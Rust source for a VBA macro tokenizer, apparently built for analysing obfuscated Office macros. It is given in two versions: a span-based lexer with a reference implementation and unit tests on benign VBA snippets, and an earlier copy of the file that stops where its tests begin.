                cur.bump(c, stats, true); // the marker
                let body_start = cur.pos;
                let body_cstart = cur.cpos;
                while let Some(ch) = cur.peek() {
                    if ch == '\n' {
                        break;
                    }
                    cur.bump_comment(ch, stats);
                }
                stats.end_comment_word();
                let raw = &source[body_start..cur.pos];
                let body = raw.trim_end_matches('\r');
                // Every trimmed byte is one '\r' character.
                let body_chars = (cur.cpos - body_cstart) - (raw.len() - body.len());
                comments.push(CommentInfo {
                    body_start,
                    body_end: body_start + body.len(),
                });
                stats.comment_body_chars += body_chars;
                stats.comment_span_chars += cur.cpos - cstart;
                tokens.push(SpanToken {
                    kind: SpanKind::Comment((comments.len() - 1) as u32),
                    start,
                    end: cur.pos,
                    char_start: cstart,
                    char_end: cur.cpos,
                });
            }
            '"' => {
                cur.bump(c, stats, true); // opening quote
                let val_start = cur.pos;
                let val_end;
                let mut char_len = 0usize;
                let mut buf: Option<String> = None;
                loop {
                    match cur.peek() {
                        None => {
                            val_end = cur.pos; // unterminated: tolerate
                            break;
                        }
                        Some('"') => {
                            if cur.byte_at(cur.pos + 1) == Some(b'"') {
                                // Escaped quote: decode lazily.
                                if buf.is_none() {
                                    buf = Some(source[val_start..cur.pos].to_string());
                                }
                                cur.bump('"', stats, true);
                                cur.bump('"', stats, true);
                                buf.as_mut().unwrap().push('"');
                                char_len += 1;
                            } else {
                                val_end = cur.pos;
                                cur.bump('"', stats, true);
                                break;
                            }
                        }
                        Some('\n') => {
                            val_end = cur.pos; // strings do not span lines
                            break;
                        }
                        Some(ch) => {
                            if let Some(b) = &mut buf {
                                b.push(ch);
                            }
                            char_len += 1;
                            cur.bump(ch, stats, true);
                        }
                    }
                }
                let repr = match buf {
                    Some(s) => {
                        decoded.push(s);
                        StrRepr::Decoded(decoded.len() - 1)
                    }
                    None => StrRepr::Span(val_start, val_end),
                };
                strings.push(StringInfo { repr, char_len });
                stats.string_chars += char_len;
                stats.string_len_sum += char_len as f64;
                tokens.push(SpanToken {
                    kind: SpanKind::StringLit((strings.len() - 1) as u32),
                    start,
                    end: cur.pos,
                    char_start: cstart,
                    char_end: cur.cpos,
                });
            }
            '&' if matches!(
                cur.byte_at(cur.pos + 1),
                Some(b'H') | Some(b'h') | Some(b'O') | Some(b'o')
            ) =>
            {
                // &H / &O numeric literal (falls back to operator + ident
                // when no digits follow).
                let radix_hex = matches!(cur.byte_at(cur.pos + 1), Some(b'H') | Some(b'h'));
                let mut j = cur.pos + 2;
                while j < n {
                    let Some(b) = cur.byte_at(j) else { break };
                    let ok = (b.is_ascii_hexdigit() && radix_hex)
                        || ((b'0'..=b'7').contains(&b) && !radix_hex);
                    if !ok {
                        break;
                    }
                    j += 1;
                }
                if j > cur.pos + 2 {
                    if j < n && cur.byte_at(j).map(|b| is_type_suffix(b as char)) == Some(true) {
                        j += 1;
                    }
                    while cur.pos < j {
                        let ch = cur.peek().unwrap();
                        cur.bump(ch, stats, false);
                    }
                    tokens.push(SpanToken {
                        kind: SpanKind::Number,
                        start,
                        end: cur.pos,
                        char_start: cstart,
                        char_end: cur.cpos,
                    });
                } else {
                    cur.bump(c, stats, false);
                    tokens.push(SpanToken {
                        kind: SpanKind::Operator("&"),
                        start,
                        end: cur.pos,
                        char_start: cstart,
                        char_end: cur.cpos,
                    });
                }
            }
            '0'..='9' => {
                while let Some(ch) = cur.peek() {
                    if !ch.is_ascii_digit() {
                        break;
                    }
                    cur.bump(ch, stats, false);
                }
                if cur.peek() == Some('.') {
                    cur.bump('.', stats, false);
                    while let Some(ch) = cur.peek() {
                        if !ch.is_ascii_digit() {
                            break;
                        }
                        cur.bump(ch, stats, false);
                    }
                }
                if matches!(cur.peek(), Some('e') | Some('E')) {
                    // Only consume the exponent when digits follow.
                    let mut j = cur.pos + 1;
                    if matches!(cur.byte_at(j), Some(b'+') | Some(b'-')) {
                        j += 1;
                    }
                    if cur.byte_at(j).map(|b| b.is_ascii_digit()) == Some(true) {
                        while cur.pos < j {
                            let ch = cur.peek().unwrap();
                            cur.bump(ch, stats, false);
                        }
                        while let Some(ch) = cur.peek() {
                            if !ch.is_ascii_digit() {
                                break;
                            }
                            cur.bump(ch, stats, false);
                        }
                    }
                }
                if cur.peek().map(is_type_suffix) == Some(true) {
                    let ch = cur.peek().unwrap();
                    cur.bump(ch, stats, false);
                }
                tokens.push(SpanToken {
                    kind: SpanKind::Number,
                    start,
                    end: cur.pos,
                    char_start: cstart,
                    char_end: cur.cpos,
                });
            }
            _ if is_ident_start(c) => {
                // Snapshot the word machine: if this turns out to be a
                // `Rem` comment the speculatively-fed chars are rewound
                // (the whole comment span is masked, marker included).
                let snap = stats.word_snapshot();
                while let Some(ch) = cur.peek() {
                    if !is_ident_continue(ch) {
                        break;
                    }
                    cur.bump(ch, stats, false);
                }
                let word = &source[start..cur.pos];
                if word.eq_ignore_ascii_case("rem") {
                    // Rem comment: swallow the rest of the line.
                    stats.word_rewind(snap);
                    let body_raw_start = cur.pos;
                    let body_cstart = cur.cpos;
                    while let Some(ch) = cur.peek() {
                        if ch == '\n' {
                            break;
                        }
                        cur.bump_comment(ch, stats);
                    }
                    stats.end_comment_word();
                    let raw = &source[body_raw_start..cur.pos];
                    let after_r = raw.trim_end_matches('\r');
                    let body = after_r.trim_start();
                    let prefix = &after_r[..after_r.len() - body.len()];
                    let body_chars = (cur.cpos - body_cstart)
                        - (raw.len() - after_r.len())
                        - prefix.chars().count();
                    let body_start = body_raw_start + (after_r.len() - body.len());
                    comments.push(CommentInfo {
                        body_start,
                        body_end: body_start + body.len(),
                    });
                    stats.comment_body_chars += body_chars;
                    stats.comment_span_chars += cur.cpos - cstart;
                    tokens.push(SpanToken {
                        kind: SpanKind::Comment((comments.len() - 1) as u32),
                        start,
                        end: cur.pos,
                        char_start: cstart,
                        char_end: cur.cpos,
                    });
                } else if is_keyword(word) {
                    tokens.push(SpanToken {
                        kind: SpanKind::Keyword,
                        start,
                        end: cur.pos,
                        char_start: cstart,
                        char_end: cur.cpos,
                    });
                } else {
                    if cur.peek().map(is_type_suffix) == Some(true) {
                        let ch = cur.peek().unwrap();
                        cur.bump(ch, stats, false);
                    }
                    tokens.push(SpanToken {
                        kind: SpanKind::Identifier,
                        start,
                        end: cur.pos,
                        char_start: cstart,
                        char_end: cur.cpos,
                    });
                }
            }
            _ => {
                // Operators and punctuation, multi-character first.
                let two: Option<&'static str> = match (c, cur.byte_at(cur.pos + 1)) {
                    ('<', Some(b'>')) => Some("<>"),
                    ('<', Some(b'=')) => Some("<="),
                    ('>', Some(b'=')) => Some(">="),
                    (':', Some(b'=')) => Some(":="),
                    _ => None,
                };
                if let Some(op) = two {
                    cur.bump(c, stats, false);
                    let ch = cur.peek().unwrap();
                    cur.bump(ch, stats, false);
                    tokens.push(SpanToken {
                        kind: SpanKind::Operator(op),
                        start,
                        end: cur.pos,
                        char_start: cstart,
                        char_end: cur.cpos,
                    });
                    continue;
                }
                let op: Option<&'static str> = match c {
                    '&' => Some("&"),
                    '+' => Some("+"),
                    '-' => Some("-"),
                    '*' => Some("*"),
                    '/' => Some("/"),
                    '\\' => Some("\\"),
                    '^' => Some("^"),
                    '=' => Some("="),
                    '<' => Some("<"),
                    '>' => Some(">"),
                    '.' => Some("."),
                    ',' => Some(","),
                    ';' => Some(";"),
                    ':' => Some(":"),
                    '(' => Some("("),
                    ')' => Some(")"),
                    '#' => Some("#"),
                    '@' => Some("@"),
                    '!' => Some("!"),
                    '$' => Some("$"),
                    '%' => Some("%"),
                    '?' => Some("?"),
                    '[' => Some("["),
                    ']' => Some("]"),
                    '{' => Some("{"),
                    '}' => Some("}"),
                    _ => None,
                };
                cur.bump(c, stats, false);
                if let Some(op) = op {
                    tokens.push(SpanToken {
                        kind: SpanKind::Operator(op),
                        start,
                        end: cur.pos,
                        char_start: cstart,
                        char_end: cur.cpos,
                    });
                }
                // Unknown characters are skipped (total lexer).
            }
        }
    }
    stats.finish();
}

/// Tokenizes VBA source code.
///
/// The lexer is *total*: any input produces a token stream (unrecognized
/// bytes become one-character [`TokenKind::Operator`]-like fallbacks are
/// skipped), which matters because obfuscated macros frequently contain
/// deliberately broken code (§VI.B of the paper).
pub fn tokenize(source: &str) -> Vec<Token> {
    let mut tokens = Vec::new();
    let mut strings = Vec::new();
    let mut comments = Vec::new();
    let mut decoded = Vec::new();
    let mut stats = SourceStats::default();
    lex_spans(
        source,
        &mut tokens,
        &mut strings,
        &mut comments,
        &mut decoded,
        &mut stats,
    );
    tokens
        .iter()
        .map(|t| {
            let kind = match t.kind {
                SpanKind::Identifier => TokenKind::Identifier(source[t.start..t.end].to_string()),
                SpanKind::Keyword => TokenKind::Keyword(source[t.start..t.end].to_string()),
                SpanKind::Number => TokenKind::Number(source[t.start..t.end].to_string()),
                SpanKind::StringLit(i) => {
                    let info = &strings[i as usize];
                    TokenKind::StringLit(match info.repr {
                        StrRepr::Span(s, e) => source[s..e].to_string(),
                        StrRepr::Decoded(d) => decoded[d].clone(),
                    })
                }
                SpanKind::Comment(i) => {
                    let info = &comments[i as usize];
                    TokenKind::Comment(source[info.body_start..info.body_end].to_string())
                }
                SpanKind::Operator(op) => TokenKind::Operator(op),
                SpanKind::Newline => TokenKind::Newline,
            };
            Token {
                kind,
                start: t.start,
                end: t.end,
            }
        })
        .collect()
}

/// The historical `Vec<char>`-indexed tokenizer, kept verbatim as the
/// equivalence oracle for the span lexer: property tests assert the two
/// produce identical token streams on arbitrary (including hostile)
/// input.
#[cfg(any(test, feature = "reference"))]
pub fn reference_tokenize(source: &str) -> Vec<Token> {
    let bytes: Vec<char> = source.chars().collect();
    // Byte offsets per char index (so spans refer to the original string).
    let mut offsets = Vec::with_capacity(bytes.len() + 1);
    {
        let mut off = 0usize;
        for &c in &bytes {
            offsets.push(off);
            off += c.len_utf8();
        }
        offsets.push(off);
    }

    let mut tokens = Vec::new();
    let mut i = 0usize;
    let n = bytes.len();

    let push = |tokens: &mut Vec<Token>, kind: TokenKind, start: usize, end: usize| {
        tokens.push(Token {
            kind,
            start: offsets[start],
            end: offsets[end],
        });
    };

    while i < n {
        let c = bytes[i];

        // Line continuation: whitespace, '_', optional spaces, line break.
        if c == '_' && (i == 0 || bytes[i - 1] == ' ' || bytes[i - 1] == '\t') {
            let mut j = i + 1;
            while j < n && (bytes[j] == ' ' || bytes[j] == '\t' || bytes[j] == '\r') {
                j += 1;
            }
            if j < n && bytes[j] == '\n' {
                i = j + 1; // splice: no Newline token
                continue;
            }
        }

        match c {
            ' ' | '\t' | '\r' => {
                i += 1;
            }
            '\n' => {
                push(&mut tokens, TokenKind::Newline, i, i + 1);
                i += 1;
            }
            '\'' => {
                let start = i;
                i += 1;
                let text_start = i;
                while i < n && bytes[i] != '\n' {
                    i += 1;
                }
                let text: String = bytes[text_start..i].iter().collect();
                push(
                    &mut tokens,
                    TokenKind::Comment(text.trim_end_matches('\r').to_string()),
                    start,
                    i,
                );
            }
            '"' => {
                let start = i;
                i += 1;
                let mut value = String::new();
                loop {
                    if i >= n {
                        break; // unterminated string: tolerate
                    }
                    if bytes[i] == '"' {
                        if i + 1 < n && bytes[i + 1] == '"' {
                            value.push('"');
                            i += 2;
                        } else {
                            i += 1;
                            break;
                        }
                    } else if bytes[i] == '\n' {
                        break; // strings do not span lines
                    } else {
                        value.push(bytes[i]);
                        i += 1;
                    }
                }
                push(&mut tokens, TokenKind::StringLit(value), start, i);
            }
            '&' if i + 1 < n && matches!(bytes[i + 1], 'H' | 'h' | 'O' | 'o') => {
                // &H / &O numeric literal (falls back to operator + ident
                // when no digits follow).
                let radix_hex = matches!(bytes[i + 1], 'H' | 'h');
                let mut j = i + 2;
                while j < n
                    && (bytes[j].is_ascii_hexdigit() && radix_hex
                        || bytes[j].is_digit(8) && !radix_hex)
                {
                    j += 1;
                }
                if j > i + 2 {
                    if j < n && is_type_suffix(bytes[j]) {
                        j += 1;
                    }
                    let text: String = bytes[i..j].iter().collect();
                    push(&mut tokens, TokenKind::Number(text), i, j);
                    i = j;
                } else {
                    push(&mut tokens, TokenKind::Operator("&"), i, i + 1);
                    i += 1;
                }
            }
            '0'..='9' => {
                let start = i;
                while i < n && bytes[i].is_ascii_digit() {
                    i += 1;
                }
                if i < n && bytes[i] == '.' {
                    i += 1;
                    while i < n && bytes[i].is_ascii_digit() {
                        i += 1;
                    }
                }
                if i < n && matches!(bytes[i], 'e' | 'E') {
                    let mut j = i + 1;
                    if j < n && matches!(bytes[j], '+' | '-') {
                        j += 1;
                    }
                    if j < n && bytes[j].is_ascii_digit() {
                        i = j;
                        while i < n && bytes[i].is_ascii_digit() {
                            i += 1;
                        }
                    }
                }
                if i < n && is_type_suffix(bytes[i]) {
                    i += 1;
                }
                let text: String = bytes[start..i].iter().collect();
                push(&mut tokens, TokenKind::Number(text), start, i);
            }
            _ if is_ident_start(c) => {
                let start = i;
                while i < n && is_ident_continue(bytes[i]) {
                    i += 1;
                }
                let word: String = bytes[start..i].iter().collect();
                if word.eq_ignore_ascii_case("rem") {
                    // Rem comment: swallow the rest of the line.
                    let text_start = i;
                    while i < n && bytes[i] != '\n' {
                        i += 1;
                    }
                    let text: String = bytes[text_start..i].iter().collect();
                    push(
                        &mut tokens,
                        TokenKind::Comment(text.trim_end_matches('\r').trim_start().to_string()),
                        start,
                        i,
                    );
                } else if is_keyword(&word) {
                    push(&mut tokens, TokenKind::Keyword(word), start, i);
                } else {
                    let mut word = word;
                    if i < n && is_type_suffix(bytes[i]) {
                        word.push(bytes[i]);
                        i += 1;
                    }
                    push(&mut tokens, TokenKind::Identifier(word), start, i);
                }
            }
            _ => {
                // Operators and punctuation, multi-character first.
                let two: Option<&'static str> = if i + 1 < n {
                    match (c, bytes[i + 1]) {
                        ('<', '>') => Some("<>"),
                        ('<', '=') => Some("<="),
                        ('>', '=') => Some(">="),
                        (':', '=') => Some(":="),
                        _ => None,
                    }
                } else {
                    None
                };
                if let Some(op) = two {
                    push(&mut tokens, TokenKind::Operator(op), i, i + 2);
                    i += 2;
                    continue;
                }
                let op: Option<&'static str> = match c {
                    '&' => Some("&"),
                    '+' => Some("+"),
                    '-' => Some("-"),
                    '*' => Some("*"),
                    '/' => Some("/"),
                    '\\' => Some("\\"),
                    '^' => Some("^"),
                    '=' => Some("="),
                    '<' => Some("<"),
                    '>' => Some(">"),
                    '.' => Some("."),
                    ',' => Some(","),
                    ';' => Some(";"),
                    ':' => Some(":"),
                    '(' => Some("("),
                    ')' => Some(")"),
                    '#' => Some("#"),
                    '@' => Some("@"),
                    '!' => Some("!"),
                    '$' => Some("$"),
                    '%' => Some("%"),
                    '?' => Some("?"),
                    '[' => Some("["),
                    ']' => Some("]"),
                    '{' => Some("{"),
                    '}' => Some("}"),
                    _ => None,
                };
                if let Some(op) = op {
                    push(&mut tokens, TokenKind::Operator(op), i, i + 1);
                }
                // Unknown characters are skipped (total lexer).
                i += 1;
            }
        }
    }
    tokens
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::TokenKind::*;

    fn kinds(src: &str) -> Vec<TokenKind> {
        tokenize(src).into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn keywords_are_sorted_for_binary_search() {
        let mut sorted = KEYWORDS.to_vec();
        sorted.sort_unstable();
        assert_eq!(sorted, KEYWORDS, "KEYWORDS must stay sorted");
    }

    #[test]
    fn fold_compare_matches_allocating_compare() {
        for w in [
            "Dim",
            "DIM",
            "dim",
            "dio",
            "di",
            "dimm",
            "zzz",
            "",
            "Caf\u{e9}",
        ] {
            let lower = w.to_ascii_lowercase();
            for k in ["dim", "do", "a", "zz"] {
                assert_eq!(cmp_ascii_fold(k, w), k.cmp(&lower.as_str()), "{k} vs {w}");
            }
        }
    }

    #[test]
    fn simple_statement() {
        assert_eq!(
            kinds("Dim x As Integer"),
            vec![
                Keyword("Dim".into()),
                Identifier("x".into()),
                Keyword("As".into()),
                Keyword("Integer".into()),
            ]
        );
    }

    #[test]
    fn keywords_case_insensitive() {
        assert_eq!(kinds("SUB sub SuB")[0], Keyword("SUB".into()));
        assert!(matches!(&kinds("DIM")[0], Keyword(_)));
        assert!(matches!(&kinds("dIm")[0], Keyword(_)));
    }

    #[test]
    fn string_literal_with_escaped_quotes() {
        assert_eq!(
            kinds(r#"s = "he said ""hi""""#),
            vec![
                Identifier("s".into()),
                Operator("="),
                StringLit("he said \"hi\"".into()),
            ]
        );
    }

    #[test]
    fn unterminated_string_is_tolerated() {
        let k = kinds("s = \"oops");
        assert_eq!(k[2], StringLit("oops".into()));
    }

    #[test]
    fn apostrophe_comment() {
        assert_eq!(
            kinds("x = 1 ' trailing comment\r\ny = 2"),
            vec![
                Identifier("x".into()),
                Operator("="),
                Number("1".into()),
                Comment(" trailing comment".into()),
                Newline,
                Identifier("y".into()),
                Operator("="),
                Number("2".into()),
            ]
        );
    }

    #[test]
    fn rem_comment() {
        let k = kinds("Rem whole line comment\nx = 1");
        assert_eq!(k[0], Comment("whole line comment".into()));
        // Identifier containing "rem" is NOT a comment.
        let k2 = kinds("remainder = 5");
        assert_eq!(k2[0], Identifier("remainder".into()));
    }

    #[test]
    fn numbers() {
        assert_eq!(kinds("42")[0], Number("42".into()));
        assert_eq!(kinds("3.14")[0], Number("3.14".into()));
        assert_eq!(kinds("1e10")[0], Number("1e10".into()));
        assert_eq!(kinds("2.5E-3")[0], Number("2.5E-3".into()));
        assert_eq!(kinds("&HFF")[0], Number("&HFF".into()));
        assert_eq!(kinds("&o777")[0], Number("&o777".into()));
        assert_eq!(kinds("123&")[0], Number("123&".into()));
    }

    #[test]
    fn ampersand_operator_vs_hex_literal() {
        // Between identifiers & is the concatenation operator.
        assert_eq!(
            kinds("a & b"),
            vec![
                Identifier("a".into()),
                Operator("&"),
                Identifier("b".into())
            ]
        );
        // `a &Hello` — no hex digits after &H... actually 'e' is a hex digit?
        // "&He" -> hex digit 'e' consumed; this is genuinely ambiguous in
        // VBA and resolved toward the literal, as here.
        assert_eq!(kinds("x &H12 y")[1], Number("&H12".into()));
    }

    #[test]
    fn identifier_type_suffixes() {
        assert_eq!(kinds("name$")[0], Identifier("name$".into()));
        assert_eq!(kinds("count%")[0], Identifier("count%".into()));
        // Suffix & must not leak a string-operator token.
        let k = kinds("total& = 1");
        assert_eq!(k[0], Identifier("total&".into()));
        assert_eq!(k[1], Operator("="));
    }

    #[test]
    fn line_continuation_is_spliced() {
        let k = kinds("x = 1 + _\r\n    2");
        assert!(
            !k.contains(&Newline),
            "continuation must not produce Newline: {k:?}"
        );
        assert_eq!(k.last(), Some(&Number("2".into())));
    }

    #[test]
    fn multi_char_operators() {
        assert_eq!(
            kinds("a <> b <= c >= d := e"),
            vec![
                Identifier("a".into()),
                Operator("<>"),
                Identifier("b".into()),
                Operator("<="),
                Identifier("c".into()),
                Operator(">="),
                Identifier("d".into()),
                Operator(":="),
                Identifier("e".into()),
            ]
        );
    }

    #[test]
    fn member_access_chain() {
        let k = kinds("OutlookApp.CreateItem(0)");
        assert_eq!(
            k,
            vec![
                Identifier("OutlookApp".into()),
                Operator("."),
                Identifier("CreateItem".into()),
                Operator("("),
                Number("0".into()),
                Operator(")"),
            ]
        );
    }

    #[test]
    fn spans_cover_source() {
        let src = "Dim zz = \"ab\" ' c";
        for t in tokenize(src) {
            assert!(t.start <= t.end && t.end <= src.len());
            assert!(!t.is_empty());
        }
    }

    #[test]
    fn full_procedure_from_paper_fig1a() {
        // Figure 1(a) of the paper.
        let src = "Sub StartCalculator()\r\n\
                   Dim Program As String\r\n\
                   Dim TaskID As Double\r\n\
                   On Error Resume Next\r\n\
                   Program = \"calc.exe\"\r\n\
                   'Run calculator program using Shell()\r\n\
                   TaskID = Shell(Program, 1)\r\n\
                   If Err <> 0 Then\r\n\
                   MsgBox \"Can't start \" & Program\r\n\
                   End If\r\n\
                   End Sub\r\n";
        let toks = tokenize(src);
        let strings: Vec<_> = toks
            .iter()
            .filter_map(|t| match &t.kind {
                StringLit(s) => Some(s.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(strings, vec!["calc.exe", "Can't start "]);
        let comments = toks.iter().filter(|t| matches!(t.kind, Comment(_))).count();
        assert_eq!(comments, 1);
        assert!(toks
            .iter()
            .any(|t| matches!(&t.kind, Identifier(i) if i == "Shell")));
    }

    #[test]
    fn non_ascii_identifiers_do_not_panic() {
        let k = kinds("Dim caf\u{00E9} = \"\u{2603}\"");
        assert!(k
            .iter()
            .any(|t| matches!(t, Identifier(i) if i.contains('\u{00E9}'))));
    }

    #[test]
    fn totality_on_noise() {
        let mut state = 7u64;
        for _ in 0..50 {
            let src: String = (0..200)
                .map(|_| {
                    state ^= state << 13;
                    state ^= state >> 7;
                    state ^= state << 17;
                    char::from_u32((state % 0x250) as u32).unwrap_or('?')
                })
                .collect();
            let _ = tokenize(&src);
        }
    }

    #[test]
    fn span_lexer_matches_reference_tokenizer() {
        let samples = [
            "",
            "Dim x As Integer\r\nx = 1 ' c\r\n",
            "s = \"a\"\"b\"\ns2 = \"open",
            "Rem note \r\r\nRem\n1Rem tail\nremainder = 5",
            "x = 1 + _\r\n 2\n_ = 3\n _\n",
            "&HFF &o777 &Hx 123& 1e5 2.5E-3 9.",
            "a<>b<=c>=d:=e&f",
            "caf\u{e9} = \"\u{2603}\u{2603}\" ' \u{e9}t\u{e9}\n",
            "Sub A()\nExit Sub\nEnd Sub\nDeclare Function F Lib \"k\"\n",
            "\"unterminated\nnext = 1",
        ];
        for src in samples {
            assert_eq!(tokenize(src), reference_tokenize(src), "src = {src:?}");
        }
        // Pseudo-random noise, same generator as totality_on_noise.
        let mut state = 99u64;
        for _ in 0..100 {
            let src: String = (0..300)
                .map(|_| {
                    state ^= state << 13;
                    state ^= state >> 7;
                    state ^= state << 17;
                    char::from_u32((state % 0x300) as u32).unwrap_or('?')
                })
                .collect();
            assert_eq!(tokenize(&src), reference_tokenize(&src), "src = {src:?}");
        }
    }
}
