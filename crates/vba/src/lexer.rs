//! The VBA tokenizer.

use crate::token::{Token, TokenKind};

/// VBA reserved words (MS-VBAL §3.3.5), lowercase.
const KEYWORDS: &[&str] = &[
    "addressof",
    "alias",
    "and",
    "as",
    "attribute",
    "base",
    "boolean",
    "byref",
    "byte",
    "byval",
    "call",
    "case",
    "cdecl",
    "compare",
    "const",
    "currency",
    "date",
    "decimal",
    "declare",
    "defbool",
    "defbyte",
    "defcur",
    "defdate",
    "defdbl",
    "defint",
    "deflng",
    "defobj",
    "defsng",
    "defstr",
    "defvar",
    "dim",
    "do",
    "double",
    "each",
    "else",
    "elseif",
    "empty",
    "end",
    "enum",
    "eqv",
    "erase",
    "error",
    "event",
    "exit",
    "explicit",
    "false",
    "for",
    "friend",
    "function",
    "get",
    "gosub",
    "goto",
    "if",
    "imp",
    "implements",
    "in",
    "integer",
    "is",
    "let",
    "lib",
    "like",
    "line",
    "lock",
    "long",
    "longlong",
    "longptr",
    "loop",
    "lset",
    "mod",
    "new",
    "next",
    "not",
    "nothing",
    "null",
    "object",
    "on",
    "option",
    "optional",
    "or",
    "paramarray",
    "preserve",
    "print",
    "private",
    "property",
    "public",
    "put",
    "raiseevent",
    "randomize",
    "redim",
    "resume",
    "return",
    "rset",
    "seek",
    "select",
    "set",
    "single",
    "static",
    "step",
    "stop",
    "string",
    "sub",
    "then",
    "to",
    "true",
    "type",
    "typeof",
    "until",
    "variant",
    "wend",
    "while",
    "with",
    "withevents",
    "write",
    "xor",
];

/// Whether `word` is a VBA reserved word (case-insensitive).
pub(crate) fn is_keyword(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    KEYWORDS.binary_search(&lower.as_str()).is_ok()
}

/// Type-declaration suffix characters that may trail an identifier.
fn is_type_suffix(c: char) -> bool {
    matches!(c, '$' | '%' | '&' | '!' | '#' | '@')
}

fn is_ident_start(c: char) -> bool {
    c.is_ascii_alphabetic() || c == '_' || !c.is_ascii()
}

fn is_ident_continue(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_' || !c.is_ascii()
}

/// Tokenizes VBA source code.
///
/// The lexer is *total*: any input produces a token stream (unrecognized
/// bytes become one-character [`TokenKind::Operator`]-like fallbacks are
/// skipped), which matters because obfuscated macros frequently contain
/// deliberately broken code (§VI.B of the paper).
pub fn tokenize(source: &str) -> Vec<Token> {
    let bytes: Vec<char> = source.chars().collect();
    // Byte offsets per char index (so spans refer to the original string).
    let mut offsets = Vec::with_capacity(bytes.len() + 1);
    {
        let mut off = 0usize;
        for &c in &bytes {
            offsets.push(off);
            off += c.len_utf8();
        }
        offsets.push(off);
    }

    let mut tokens = Vec::new();
    let mut i = 0usize;
    let n = bytes.len();

    let push = |tokens: &mut Vec<Token>, kind: TokenKind, start: usize, end: usize| {
        tokens.push(Token {
            kind,
            start: offsets[start],
            end: offsets[end],
        });
    };

    while i < n {
        let c = bytes[i];

        // Line continuation: whitespace, '_', optional spaces, line break.
        if c == '_' && (i == 0 || bytes[i - 1] == ' ' || bytes[i - 1] == '\t') {
            let mut j = i + 1;
            while j < n && (bytes[j] == ' ' || bytes[j] == '\t' || bytes[j] == '\r') {
                j += 1;
            }
            if j < n && bytes[j] == '\n' {
                i = j + 1; // splice: no Newline token
                continue;
            }
        }

        match c {
            ' ' | '\t' | '\r' => {
                i += 1;
            }
            '\n' => {
                push(&mut tokens, TokenKind::Newline, i, i + 1);
                i += 1;
            }
            '\'' => {
                let start = i;
                i += 1;
                let text_start = i;
                while i < n && bytes[i] != '\n' {
                    i += 1;
                }
                let text: String = bytes[text_start..i].iter().collect();
                push(
                    &mut tokens,
                    TokenKind::Comment(text.trim_end_matches('\r').to_string()),
                    start,
                    i,
                );
            }
            '"' => {
                let start = i;
                i += 1;
                let mut value = String::new();
                loop {
                    if i >= n {
                        break; // unterminated string: tolerate
                    }
                    if bytes[i] == '"' {
                        if i + 1 < n && bytes[i + 1] == '"' {
                            value.push('"');
                            i += 2;
                        } else {
                            i += 1;
                            break;
                        }
                    } else if bytes[i] == '\n' {
                        break; // strings do not span lines
                    } else {
                        value.push(bytes[i]);
                        i += 1;
                    }
                }
                push(&mut tokens, TokenKind::StringLit(value), start, i);
            }
            '&' if i + 1 < n && matches!(bytes[i + 1], 'H' | 'h' | 'O' | 'o') => {
                // &H / &O numeric literal (falls back to operator + ident
                // when no digits follow).
                let radix_hex = matches!(bytes[i + 1], 'H' | 'h');
                let mut j = i + 2;
                while j < n
                    && (bytes[j].is_ascii_hexdigit() && radix_hex
                        || bytes[j].is_digit(8) && !radix_hex)
                {
                    j += 1;
                }
                if j > i + 2 {
                    if j < n && is_type_suffix(bytes[j]) {
                        j += 1;
                    }
                    let text: String = bytes[i..j].iter().collect();
                    push(&mut tokens, TokenKind::Number(text), i, j);
                    i = j;
                } else {
                    push(&mut tokens, TokenKind::Operator("&"), i, i + 1);
                    i += 1;
                }
            }
            '0'..='9' => {
                let start = i;
                while i < n && bytes[i].is_ascii_digit() {
                    i += 1;
                }
                if i < n && bytes[i] == '.' {
                    i += 1;
                    while i < n && bytes[i].is_ascii_digit() {
                        i += 1;
                    }
                }
                if i < n && matches!(bytes[i], 'e' | 'E') {
                    let mut j = i + 1;
                    if j < n && matches!(bytes[j], '+' | '-') {
                        j += 1;
                    }
                    if j < n && bytes[j].is_ascii_digit() {
                        i = j;
                        while i < n && bytes[i].is_ascii_digit() {
                            i += 1;
                        }
                    }
                }
                if i < n && is_type_suffix(bytes[i]) {
                    i += 1;
                }
                let text: String = bytes[start..i].iter().collect();
                push(&mut tokens, TokenKind::Number(text), start, i);
            }
            _ if is_ident_start(c) => {
                let start = i;
                while i < n && is_ident_continue(bytes[i]) {
                    i += 1;
                }
                let word: String = bytes[start..i].iter().collect();
                if word.eq_ignore_ascii_case("rem") {
                    // Rem comment: swallow the rest of the line.
                    let text_start = i;
                    while i < n && bytes[i] != '\n' {
                        i += 1;
                    }
                    let text: String = bytes[text_start..i].iter().collect();
                    push(
                        &mut tokens,
                        TokenKind::Comment(text.trim_end_matches('\r').trim_start().to_string()),
                        start,
                        i,
                    );
                } else if is_keyword(&word) {
                    push(&mut tokens, TokenKind::Keyword(word), start, i);
                } else {
                    let mut word = word;
                    if i < n && is_type_suffix(bytes[i]) {
                        word.push(bytes[i]);
                        i += 1;
                    }
                    push(&mut tokens, TokenKind::Identifier(word), start, i);
                }
            }
            _ => {
                // Operators and punctuation, multi-character first.
                let two: Option<&'static str> = if i + 1 < n {
                    match (c, bytes[i + 1]) {
                        ('<', '>') => Some("<>"),
                        ('<', '=') => Some("<="),
                        ('>', '=') => Some(">="),
                        (':', '=') => Some(":="),
                        _ => None,
                    }
                } else {
                    None
                };
                if let Some(op) = two {
                    push(&mut tokens, TokenKind::Operator(op), i, i + 2);
                    i += 2;
                    continue;
                }
                let op: Option<&'static str> = match c {
                    '&' => Some("&"),
                    '+' => Some("+"),
                    '-' => Some("-"),
                    '*' => Some("*"),
                    '/' => Some("/"),
                    '\\' => Some("\\"),
                    '^' => Some("^"),
                    '=' => Some("="),
                    '<' => Some("<"),
                    '>' => Some(">"),
                    '.' => Some("."),
                    ',' => Some(","),
                    ';' => Some(";"),
                    ':' => Some(":"),
                    '(' => Some("("),
                    ')' => Some(")"),
                    '#' => Some("#"),
                    '@' => Some("@"),
                    '!' => Some("!"),
                    '$' => Some("$"),
                    '%' => Some("%"),
                    '?' => Some("?"),
                    '[' => Some("["),
                    ']' => Some("]"),
                    '{' => Some("{"),
                    '}' => Some("}"),
                    _ => None,
                };
                if let Some(op) = op {
                    push(&mut tokens, TokenKind::Operator(op), i, i + 1);
                }
                // Unknown characters are skipped (total lexer).
                i += 1;
            }
        }
    }
    tokens
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::TokenKind::*;

    fn kinds(src: &str) -> Vec<TokenKind> {
